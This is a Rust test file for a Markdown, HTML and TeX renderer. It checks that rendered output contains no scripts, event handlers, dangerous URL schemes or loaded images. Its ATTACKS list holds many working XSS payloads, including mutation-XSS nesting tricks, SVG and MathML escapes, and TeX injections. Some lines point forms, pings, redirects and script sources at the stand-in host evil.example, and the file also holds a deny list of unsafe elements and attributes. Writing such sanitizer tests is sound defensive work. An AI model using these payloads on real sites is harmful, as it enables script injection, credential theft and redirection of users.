//! Nothing an author writes runs, loads or restyles anything.

use crate::{Folder, Gullible};
use proptest::prelude::*;

const ELEMENTS: &[&str] = &[
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "button",
    "textarea",
    "select",
    "base",
    "meta",
    "link",
    "svg",
    "template",
    "noscript",
    "title",
    "plaintext",
    "xmp",
    "annotation-xml",
    "mglyph",
    "malignmark",
    "foreignobject",
    "audio",
    "video",
    "frame",
    "frameset",
    "applet",
    "semantics",
];

/// Reads HTML strictly, as tags with quoted values, and refuses all that could act.
fn assert_safe(html: &str, source: &str) {
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        let end = at + rest[at..].find('>').unwrap_or_else(|| panic!("unfinished tag for {source:?}: {html}"));
        let tag = rest[at + 1..end].trim_start_matches('/');
        let (name, mut attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        assert!(name.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit()), "{name:?} for {source:?}: {html}");
        assert!(!ELEMENTS.contains(&name), "<{name}> for {source:?}: {html}");
        while !attributes.is_empty() {
            let (key, value) =
                attributes.split_once("=\"").unwrap_or_else(|| panic!("{attributes:?} for {source:?}: {html}"));
            let (value, more) = value.split_once('"').expect("values are quoted");
            assert!(
                !key.starts_with("on") && !["style", "srcdoc", "srcset", "formaction", "action", "ping"].contains(&key),
                "{key} for {source:?}: {html}"
            );
            assert!(key.bytes().all(|b| b.is_ascii_lowercase() || b == b'-'), "{key:?} for {source:?}: {html}");
            if matches!(key, "href" | "src" | "cite") {
                let address: String =
                    value.chars().filter(|c| !c.is_control()).collect::<String>().trim().to_lowercase();
                let picture = name == "img" && address.starts_with("data:image/");
                let bad = ["javascript:", "vbscript:", "data:", "file:", "blob:"]
                    .iter()
                    .any(|scheme| address.starts_with(scheme));
                assert!(picture || !bad, "{address} for {source:?}: {html}");
                assert!(name != "img" || !address.starts_with("http"), "{address} is loaded for {source:?}: {html}");
            }
            attributes = more.trim_start();
        }
        rest = &rest[end + 1..];
    }
    assert!(!rest.contains('<'));
}

fn check(source: &str) {
    assert_safe(&text::render(source, &mut Folder).html, source);
    assert_safe(&text::render(source, &mut Gullible).html, source);
}

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "text <script>alert(1)</script> text",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=data:,alert(1)>",
    "<img src=x onerror=alert(1)>",
    "text <img src=img/map.png onerror=\"alert(1)\" onload=alert(2) style=\"x:y\">",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "![x](javascript:alert(1))",
    "![x](data:text/html,<script>alert(1)</script>)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x\" onerror=\"alert(1)](img/map.png \"t\\\" onload=\\\"alert(1)\")",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<a href=\" &#106;avascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"javascript&#58;alert(1)\">x</a>",
    "<a href='x' onclick='alert(1)' target=_blank ping=//evil.example>x</a>",
    "<a href=x/onmouseover=alert(1)>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
    "<math href=\"javascript:alert(1)\">click</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>body{display:none}</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div style=position:fixed;inset:0>cover</div>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)><embed src=x></object>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example><link rel=stylesheet href=x>",
    "<!-- unclosed <script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<title><img title=\"</title><script>alert(1)</script>\">",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>x</x>",
    "<div id=\"t-x\" class=\"picture-blur\" data-slot=0><wbr data-slot=\"0\"></div>\n\n$x$",
    "<img data-line=\"1\" src=\"media:0ABC\" srcset=\"http://evil.example/x 2x\">",
    "$\\text{<script>alert(1)</script>}$",
    "$$\\href{javascript:alert(1)}{x} \\style{x}{y} \\class{a\" onload=\"b}{z}$$",
    "$\\color{red\" onload=\"alert(1)}x$ $\\textcolor{red}{x}$ $\\hspace{1em\" style=\"x}$",
    "$</math><script>alert(1)</script>$",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<script>alert(\"x\")</script>\n```",
    "`<script>alert(1)</script>`",
    "# <script>alert(1)</script> x\" onload=\"y\n## <img src=x onerror=alert(1)>",
    "[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [ ] <input type=text autofocus onfocus=alert(1)>",
    "<a href=\"http://x\" title='\"><script>alert(1)</script>'>x</a>",
    "<b title=\"`onmouseover=alert(1)`\">x</b>",
    "\0<script\0>alert(1)</script\0>",
    "<a\u{c}href=\"javascript:alert(1)\"\u{c}>x</a>",
    "<div><p title=\"</p></div><script>\">",
    "<table><td><a href=\"</table><img src=x onerror=alert(1)>\">",
];

#[test]
fn attacks_come_to_nothing() {
    for attack in ATTACKS {
        check(attack);
        check(&format!("> - a\n>   {}\n\n# b", attack.replace('\n', " ")));
        check(&format!("<div>\n\n*x {attack} y* <math><mi>\n\n</div>"));
    }
}

#[test]
fn what_scripts_said_is_not_text_either() {
    assert_eq!(text::plain("a <script>alert(1)</script> b\n\n<style>p{}</style>\n\nc"), "a  b\nc");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_text_is_safe(source in "\\PC{0,200}") {
        check(&source);
    }

    #[test]
    fn any_mixture_of_attacks_and_markup_is_safe(parts in prop::collection::vec(part(), 1..12)) {
        check(&parts.concat());
    }

    #[test]
    fn any_formula_is_safe(parts in prop::collection::vec(tex(), 1..14)) {
        check(&format!("a ${}$ b\n\n$${}$$", parts.concat(), parts.join(" ")));
    }
}

fn part() -> impl Strategy<Value = String> {
    let markup = &[
        "\n",
        "\n\n",
        " ",
        "> ",
        "- ",
        "1. ",
        "# ",
        "| a | b |\n|---|---|\n",
        "**",
        "*",
        "_",
        "~~",
        "`",
        "```\n",
        "$",
        "$$",
        "[",
        "](",
        ")",
        "![",
        "<",
        ">",
        "\"",
        "'",
        "=",
        "</",
        "/>",
        "<!--",
        "-->",
        "<div>",
        "</div>",
        "<b>",
        "<p>",
        "</p>",
        "<a href=",
        "<table>",
        "</table>",
        "<td>",
        "<pre>",
        "[^1]",
        "[^1]: ",
        "- [x] ",
        "<math>",
        "<svg>",
        "<style>",
        "&lt;",
        "&#60;",
        "    ",
        "<details><summary>",
        "量化投资",
        "\\",
        "\u{0}",
        "<img src=img/map.png alt=",
        "onerror=alert(1)",
        "<script>",
        "javascript:",
    ];
    let pick = |from: &'static [&'static str]| prop::sample::select(from).prop_map(str::to_owned);
    let cut = (pick(ATTACKS), 0usize..80).prop_map(|(attack, at)| attack.chars().take(at).collect());
    prop_oneof![4 => prop::sample::select(markup.to_vec()).prop_map(str::to_owned), 2 => pick(ATTACKS), 1 => cut, 1 => "\\PC{0,8}"]
}

fn tex() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        "\\frac",
        "{",
        "}",
        "x",
        "1",
        "^",
        "_",
        "\\sqrt",
        "[",
        "]",
        "\\left(",
        "\\right)",
        "\\left.",
        "\\begin{matrix}",
        "\\end{matrix}",
        "\\begin{array}{c|c}",
        "\\end{array}",
        "&",
        "\\\\",
        "\\hline",
        "\\text{",
        "<",
        ">",
        "\"",
        "\\color{red}",
        "\\textcolor",
        "\\mathbb",
        "\\operatorname",
        "\\sum",
        "\\limits",
        "\\not",
        "%",
        "#1",
        "~",
        "'",
        "\\hspace{1em}",
        "\\,",
        "\\binom",
        "\\overset",
        "\\big(",
        "\\middle|",
        "\\unknown",
        "量",
        "\\tag{1}",
        "\\label{x}",
        "\\begin{align}",
        "\\end{align}",
        "\\substack",
        "\\char",
        "\\mathchoice",
        "\\genfrac",
        "\\rule",
        "\\u{",
        "\\displaystyle",
        "\\scriptstyle",
        "\\kern",
        "\\raise",
        "\\cancel",
        "\\boxed",
        "\\phantom",
        "\\overline",
        "\\hat",
        "\\vec",
        "\\",
        " ",
    ])
}
